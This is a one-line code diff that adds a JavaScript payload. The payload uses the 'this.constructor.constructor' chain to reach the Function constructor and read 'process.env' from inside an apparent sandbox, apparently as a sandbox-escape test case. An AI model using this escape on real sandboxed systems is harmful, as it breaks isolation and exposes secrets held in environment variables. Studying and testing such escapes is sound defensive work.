@@ -1,0 +1,1 @@
+setTimeout(function () { escaped('callback', this?.constructor?.constructor('return globalThis.process?.env')()); }, 0);
